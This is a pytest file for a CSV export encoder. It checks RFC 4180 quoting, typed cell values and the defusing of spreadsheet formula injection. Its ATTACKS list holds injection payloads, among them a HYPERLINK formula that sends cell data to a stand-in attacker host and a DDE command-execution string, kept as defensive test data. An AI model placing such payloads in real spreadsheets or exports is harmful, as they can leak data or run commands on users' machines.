"""CSV cells (api-contract.md: CSV exports): RFC 4180 quoting, values by type, and text
that a spreadsheet would run as a formula made inert with a leading `'`."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone

import pytest

from kassa.services.csv_cells import CsvEncoder, cell, rfc3339_utc, text_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(attack: str) -> None:
    assert cell(attack) == "'" + attack
    assert text_cell(attack) == "'" + attack


@pytest.mark.parametrize("harmless", ["", "Ada", "a=b", "1-2", "ord_01", " =1", "'quoted"])
def test_other_text_is_left_alone(harmless: str) -> None:
    assert cell(harmless) == harmless


def test_numbers_are_never_text_even_negative_ones() -> None:
    assert cell(-500) == "-500"
    assert cell(0) == "0"
    assert cell(2**63 - 1) == "9223372036854775807"


def test_values_by_type() -> None:
    assert cell(None) == ""
    assert cell(True) == "true" and cell(False) == "false"
    assert cell(date(2026, 11, 25)) == "2026-11-25"
    assert cell(datetime(2026, 11, 25, 9, 30, tzinfo=UTC)) == "2026-11-25T09:30:00Z"
    berlin_winter = timezone(timedelta(hours=1))
    assert cell(datetime(2026, 11, 25, 10, 30, 0, 250, tzinfo=berlin_winter)) == (
        "2026-11-25T09:30:00.000250Z"
    )
    with pytest.raises(ValueError, match="naive"):
        rfc3339_utc(datetime(2026, 11, 25, 9, 30))
    with pytest.raises(TypeError):
        cell(1.5)  # type: ignore[arg-type]  # no float ever touches an amount


def test_rfc_4180_quoting_and_crlf_line_ends() -> None:
    encoder = CsvEncoder(["id", "title", "amount"])
    body = encoder.header() + encoder.encode(
        [
            ("p1", 'Mug "Deluxe", blue', 1500),
            ("p2", "two\nlines", -500),
            ("p3", "=1+1", 0),
        ]
    )
    assert body == (
        b"id,title,amount\r\n"
        b'p1,"Mug ""Deluxe"", blue",1500\r\n'
        b'p2,"two\nlines",-500\r\n'
        b"p3,'=1+1,0\r\n"
    )
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert rows[1] == ["p1", 'Mug "Deluxe", blue', "1500"]
    assert rows[2] == ["p2", "two\nlines", "-500"]


def test_a_row_of_the_wrong_width_is_a_bug_not_a_file() -> None:
    encoder = CsvEncoder(["a", "b"])
    with pytest.raises(ValueError, match="3 cells for 2 columns"):
        encoder.encode([("x", "y", "z")])


def test_utf8_text_survives() -> None:
    encoder = CsvEncoder(["name"])
    assert encoder.encode([("Zoë Ødegård 😀",)]).decode("utf-8") == "Zoë Ødegård 😀\r\n"


def test_a_value_of_no_known_type_is_a_bug_not_a_cell() -> None:
    encoder = CsvEncoder(["amount"])
    with pytest.raises(TypeError, match="float"):
        encoder.encode([(1.5,)])  # type: ignore[list-item]
